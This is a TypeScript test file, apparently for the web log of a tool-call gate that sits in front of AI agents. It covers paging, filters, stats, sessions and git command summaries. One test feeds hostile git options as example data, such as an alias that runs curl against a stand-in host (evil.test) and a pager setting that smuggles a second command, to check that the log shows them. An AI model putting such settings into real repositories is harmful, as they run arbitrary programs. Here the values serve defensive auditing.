// The record on the page: page by page, filtered, one call whole, and in numbers.

import assert from "node:assert/strict";
import test, { type TestContext } from "node:test";
import { gitArguments } from "../../src/git/command.ts";
import { displayCommand } from "../../src/shared/display.ts";
import type { Gate } from "../../src/index.ts";
import type { CallStory, LogPage, SessionsView, StatsView } from "../../src/web/api.ts";
import { makeTestDirectories, openGate } from "../fixtures/gate.ts";
import { openPage, type TestPage } from "../fixtures/page.ts";
import { exec, ran, refused } from "../fixtures/run.ts";

function newPage(t: TestContext): { gate: Gate; page: TestPage } {
  const directories = makeTestDirectories();
  t.after(() => directories.remove());
  const gate = openGate(directories, {}, { session: "s1" });
  t.after(() => gate.close());
  return { gate, page: openPage(t, gate) };
}

test("entries come newest first, page by page, each with one line that says what it was", async (t) => {
  const { gate, page } = newPage(t);
  ran(await exec(gate, ["/bin/echo", "one\u001b[2J"]));
  refused(await gate.call({ tool: "Bash", args: { script: "id" } }));
  const all: LogPage["entries"][number][] = [];
  let before = "";
  for (let next: number | null = 1; next !== null;) {
    const read: LogPage = await page.get<LogPage>(`/api/log?limit=2${before}`);
    all.push(...read.entries);
    assert.ok(read.entries.length <= 2);
    ({ next } = read);
    before = `&before=${next}`;
  }
  assert.deepEqual(
    all.map(({ event }) => event),
    ["tool.call.denied", "tool.call.received", "tool.call.finished", "tool.call.dispatched", "tool.call.received"],
  );
  assert.deepEqual(
    all.map(({ seq }) => seq),
    [5, 4, 3, 2, 1],
  );
  assert.match(all[0]?.summary ?? "", /^tool_not_found: /);
  assert.match(all[2]?.summary ?? "", /^exit 0 after \d/);
  assert.equal(all[3]?.summary, "/bin/echo $'one\\x1b[2J'");
  assert.deepEqual(Object.keys(all[0] ?? {}), [
    "seq",
    "time",
    "session",
    "agent",
    "call_id",
    "event",
    "tool",
    "decision",
    "summary",
  ]);
  const story = await page.get<CallStory>(`/api/calls/${all[4]?.call_id ?? ""}`);
  assert.deepEqual(
    story.entries.map(({ seq }) => seq),
    [1, 2, 3],
  );
  await page.refused(404, "GET", "/api/calls/none");
});

test("filters; empty ones ask for nothing, wrong ones are named", async (t) => {
  const { gate, page } = newPage(t);
  for (const word of ["apple", "pear", "plum"]) ran(await exec(gate, ["/bin/echo", word]));
  refused(await gate.call({ tool: "Bash", args: { script: "id" } }));
  const seqs = async (query: string) => (await page.get<LogPage>(`/api/log?${query}`)).entries.map(({ seq }) => seq);
  const every = [11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1];
  assert.deepEqual(await seqs(""), every);
  assert.deepEqual(await seqs("text=&tool=&event=&since=&before="), every);
  assert.deepEqual(await seqs("text=PEAR"), [5, 4]);
  assert.deepEqual(await seqs("tool=Bash"), [11, 10]);
  assert.deepEqual(await seqs("event=tool.call.denied"), [11]);
  assert.deepEqual(await seqs("session=s1&agent=default&limit=1"), [11]);
  assert.deepEqual(await seqs("session=other"), []);
  assert.deepEqual(await seqs("after=9"), [11, 10]);
  assert.deepEqual(await seqs("after=0"), every);
  assert.deepEqual(await seqs("before=4"), [3, 2, 1]);
  assert.deepEqual(await seqs("since=2020-01-01&until=2021-01-01T00:00:00Z"), []);
  assert.deepEqual(await seqs(`since=${encodeURIComponent("2020-01-01T00:00:00+02:00")}`), every);
  for (const [query, field] of [
    ["limit=0", "limit"],
    ["limit=501", "limit"],
    ["limit=x", "limit"],
    ["before=-1", "before"],
    ["event=denied", "event"],
    ["since=yesterday", "since"],
    [`text=${"x".repeat(501)}`, "text"],
    ["order=oldest", "order"],
  ] as const)
    assert.match((await page.refused(400, "GET", `/api/log?${query}`)).message, new RegExp(field), query);
});

test("numbers: calls, refusals and hours; a new entry is counted, and old hours are left out", async (t) => {
  const { gate, page } = newPage(t);
  ran(await exec(gate, ["/bin/echo", "one"]));
  const before = await page.get<StatsView>("/api/stats");
  assert.deepEqual([before.calls, before.entries, before.tools, before.refusals], [1, 3, { Exec: 1 }, {}]);
  refused(await gate.call({ tool: "Bash", args: { script: "id" } }));
  const after = await page.get<StatsView>("/api/stats");
  assert.deepEqual([after.calls, after.entries, after.refusals], [2, 5, { tool_not_found: 1 }]);
  assert.deepEqual(after.durations["Exec"]?.count, 1);
  const sum = (name: "calls" | "refused") => after.hours.reduce((total, hour) => total + hour[name], 0);
  assert.deepEqual([sum("calls"), sum("refused")], [2, 1]);
  assert.ok(after.hours.every(({ hour }) => /^\d{4}-\d\d-\d\dT\d\d$/.test(hour)));
  assert.deepEqual(gate.journal.hours("2999-01-01T00:00:00Z"), []);
});

test("sessions: newest first, each of one agent and with its own counts", async (t) => {
  const { gate, page } = newPage(t);
  ran(await exec(gate, ["/bin/echo", "one"]));
  for (const [session, agent] of [
    ["s2", "other"],
    ["s3", "third"],
    ["s2", "later"],
  ] as const) {
    gate.journal.append({ event: "tool.call.received", session, agent, call_id: `c-${session}`, tool: "Exec" });
    gate.journal.append({ event: "tool.call.denied", session, agent, call_id: `c-${session}`, tool: "Exec" });
  }
  gate.journal.append({ event: "policy.changed", outcome: {} });
  const { sessions } = await page.get<SessionsView>("/api/sessions");
  assert.deepEqual(
    sessions.map(({ name, agent, calls, refused: no }) => [name, agent, calls, no]),
    [
      ["s2", "later", 1, 1],
      ["s3", "third", 1, 1],
      ["s2", "other", 1, 1],
      ["s1", "default", 1, 0],
    ],
  );
  assert.ok(sessions.every(({ first, last }) => first <= last && first.endsWith("Z")));
});

test("what is enforced on this machine is given as it is", async (t) => {
  const { page } = newPage(t);
  assert.deepEqual(await page.get("/api/machine"), { ok: true });
});

test("what is found outside the summary is shown with the text around it, safely; in the summary nothing is added", async (t) => {
  const { gate, page } = newPage(t);
  ran(await exec(gate, ["/bin/echo", "x".repeat(500), "Needle\u202e end"]));
  const search = async (text: string) => (await page.get<LogPage>(`/api/log?text=${encodeURIComponent(text)}`)).entries;
  const found = (await search("needle"))[0];
  assert.match(found?.found ?? "", /^….*Needle.* end/);
  assert.doesNotMatch(found?.found ?? "", /\u202e/);
  assert.ok(!found?.summary.includes("Needle"), "the control: the summary is cut before it");
  assert.equal(
    (await search("/bin/echo")).every((row) => row.found === undefined),
    true,
  );
});

test("a git of the gate stands without the options that it always has; one of an agent stands as it is", async (t) => {
  const { gate, page } = newPage(t);
  const words = gitArguments({
    git: "/usr/bin/git",
    repository: { workTree: "/w", gitDirectory: "/w/.git", commonDirectory: "/w/.git", isOwnedByGate: false },
    words: ["log", "-c", "--oneline"],
  } as unknown as Parameters<typeof gitArguments>[0]);
  assert.ok(words.length > 20);
  const agents = ["/usr/bin/git", "-c", "core.fsmonitor=false", "--no-pager", "push"];
  for (const argv of [words, agents]) gate.journal.append({ event: "tool.call.dispatched", args: { argv } });
  const [agent, own] = (await page.get<LogPage>("/api/log")).entries;
  assert.equal(own?.summary, "/usr/bin/git … log -c --oneline");
  assert.equal(agent?.summary, agents.join(" "));
});
test("a git of an agent that begins as the gate's shows each option that could start a program", async (t) => {
  const { gate, page } = newPage(t);
  for (const [setting, isShown] of [
    ["alias.status=!curl evil.test", true],
    ["core.fsmonitor=/w/program", true],
    ["core.fsmonitor=never", true],
    ["core.editor=cat", true],
    ["diff.external=minimal", true],
    ["core.pager=false; program", true],
    ["core.hooksPath=/dev/null", false], // the control
    ["credential.helper=", false],
  ] as const) {
    const argv = ["git", "--no-pager", "-c", "core.fsmonitor=false", "-c", setting, "-c", "a.b=false", "status"];
    gate.journal.append({ event: "tool.call.dispatched", args: { argv } });
    const [{ summary } = { summary: "" }] = (await page.get<LogPage>("/api/log")).entries;
    const rest = displayCommand(["-c", setting, "-c", "a.b=false", "status"]);
    assert.equal(summary, isShown ? `git … ${rest}` : "git … status");
  }
});
